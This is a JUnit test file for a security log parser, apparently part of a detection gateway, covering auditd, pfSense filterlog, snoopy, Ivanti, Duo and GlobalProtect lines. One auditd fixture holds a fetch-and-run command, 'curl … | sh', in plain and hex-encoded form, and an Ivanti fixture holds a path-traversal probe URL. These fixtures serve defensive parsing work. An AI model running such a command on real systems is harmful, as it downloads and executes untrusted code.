package io.cybershield.shield.gateway.triage.logs;

import org.junit.jupiter.api.Test;

import java.nio.charset.StandardCharsets;

import static io.cybershield.shield.gateway.triage.logs.ParsedLines.parsed;

/**
 * Formats and fields added in the second round, each a class of line the first round did not read: auditd EXECVE
 * arguments hex-encoded one by one, pfSense/OPNsense filterlog CSV, snoopy, Ivanti Connect Secure, the Duo
 * authentication proxy, PAN-OS GLOBALPROTECT records, and appliance lines whose syslog header has an unknown
 * program. Lines written here, with documentation addresses.
 */
class Round2LinesTest {

  private static String hex(String text) {
    StringBuilder out = new StringBuilder();
    for (byte b : text.getBytes(StandardCharsets.UTF_8)) {
      out.append(String.format("%02X", b));
    }
    return out.toString();
  }

  @Test
  void execveHexArgumentsAreDecodedAndJoinedIntoTheProcessTitle() {
    parsed(LogSource.AUDITD, "type=EXECVE msg=audit(1767000000.010:4242): argc=3 a0=\"sh\" a1=\"-c\" a2="
        + hex("curl -s http://198.51.100.20/a | sh"))
        .is(LogSource.AUDITD, LogFormat.AUDITD)
        .has("a2", "curl -s http://198.51.100.20/a | sh")
        .has("a2_hex", hex("curl -s http://198.51.100.20/a | sh"))
        .has("proctitle", "sh -c curl -s http://198.51.100.20/a | sh")
        .has("command", "sh -c curl -s http://198.51.100.20/a | sh");
  }

  @Test
  void quotedArgumentsThatLookLikeHexStayAsTheyAre() {
    parsed(LogSource.AUDITD, "type=EXECVE msg=audit(1767000000.020:4243): argc=4 a0=\"chmod\" a1=\"4755\" "
        + "a2=\"cafe\" a3=\"/usr/local/bin/tool\"")
        .has("a1", "4755").has("a2", "cafe").lacks("a1_hex")
        .has("proctitle", "chmod 4755 cafe /usr/local/bin/tool");
  }

  @Test
  void execveWithAnExistingProcessTitleKeepsIt() {
    parsed(LogSource.AUDITD, "type=EXECVE msg=audit(1767000000.030:4244): argc=2 a0=\"id\" a1=\"-u\"")
        .has("command", "id -u").has("proctitle", "id -u");
  }

  @Test
  void pfSenseFilterlogIpv4Tcp() {
    parsed(LogSource.AUTO, "Jan 14 08:11:02 gw-a filterlog[4312]: 5,,,1000000103,em0,match,block,in,4,0x0,,52,"
        + "18020,0,DF,6,tcp,60,203.0.113.77,192.0.2.10,51515,3389,0,S,1234567,,64240,,mss;sackOK;TS;nop;wscale")
        .is(LogSource.FIREWALL, LogFormat.SYSLOG).has("program", "filterlog").has("action", "deny")
        .has("proto", "tcp").has("src_ip", "203.0.113.77").has("dst_ip", "192.0.2.10").has("src_port", "51515")
        .has("dst_port", "3389").has("direction", "in").has("interface", "em0");
  }

  @Test
  void pfSenseFilterlogIpv6UdpPass() {
    parsed(LogSource.FIREWALL, "filterlog[77]: 9,,,1000000201,igb1,match,pass,out,6,0x00,0x00000,64,udp,17,72,"
        + "2001:db8::5,2001:db8:1::53,40000,53,72")
        .is(LogSource.FIREWALL, LogFormat.CSV).has("action", "allow").has("proto", "udp")
        .has("src_ip", "2001:db8::5").has("dst_ip", "2001:db8:1::53").has("dst_port", "53");
  }

  @Test
  void pfSenseFilterlogIcmpHasNoPorts() {
    parsed(LogSource.FIREWALL, "Jan 14 08:11:09 gw-a filterlog[4312]: 5,,,1000000103,em0,match,block,in,4,0x0,,"
        + "55,0,0,none,1,icmp,84,203.0.113.9,192.0.2.10,request,77,1")
        .has("proto", "icmp").has("src_ip", "203.0.113.9").lacks("dst_port");
  }

  @Test
  void snoopyExecutionRecord() {
    parsed(LogSource.LINUX_SYSLOG, "Feb  9 02:14:55 app-7 snoopy[3321]: [uid:48 sid:2210 tty:(none) cwd:/var/tmp "
        + "filename:/usr/bin/uname login:apache]: uname -a")
        .has("program", "snoopy").has("user", "apache").has("command", "uname -a").has("pwd", "/var/tmp")
        .has("uid", "48").has("Image", "/usr/bin/uname");
  }

  @Test
  void ivantiConnectSecureLoginFailure() {
    parsed(LogSource.VPN, "2027-01-05 09:12:44 - vpn-gw - [198.51.100.61] rsingh(Staff)[] - AUT24414: Login "
        + "failed using auth server CORP-LDAP (LDAP Server).  Reason: Failed")
        .is(LogSource.VPN, LogFormat.SYSLOG).has("user", "rsingh").has("src_ip", "198.51.100.61")
        .has("outcome", "failure");
  }

  @Test
  void ivantiSystemMessagesHaveNoUser() {
    parsed(LogSource.VPN, "2027-01-05 09:13:00 - vpn-gw - [198.51.100.62] System()[] - WEB20174: Unauthenticated "
        + "request url /dana-na/../probe came from IP 198.51.100.62.")
        .is(LogSource.VPN, LogFormat.SYSLOG).lacks("user");
  }

  @Test
  void duoAuthProxyDenial() {
    parsed(LogSource.AUTO, "Mar 11 17:40:02 mfa-proxy authproxy: [duoauthproxy.lib.log] Duo authentication "
        + "returned 'deny': 'Push request denied' for user 'ptran' [client 10.1.0.5] (RADIUS, src 203.0.113.140)")
        .is(LogSource.VPN, LogFormat.SYSLOG).has("user", "ptran").has("src_ip", "203.0.113.140")
        .has("outcome", "failure");
  }

  @Test
  void globalProtectRecordFields() {
    parsed(LogSource.AUTO, "1,2027/02/01 10:00:00,013201009999,GLOBALPROTECT,0,2817,2027/02/01 10:00:00,vsys1,"
        + "gateway-auth,login,SAML,,amartin,FR,WS-2231,192.0.2.200,0.0.0.0,0.0.0.0,0.0.0.0,111,Windows,"
        + "\"Windows 11, 64-bit\",6.2.1,,\"\",success,,0,,GW-1,1,0x8000000000000000,2027-02-01T10:00:00Z,,,,,,")
        .is(LogSource.VPN, LogFormat.CSV).has("user", "amartin").has("src_ip", "192.0.2.200")
        .has("country", "FR").has("outcome", "success").has("auth_method", "SAML");
  }
}
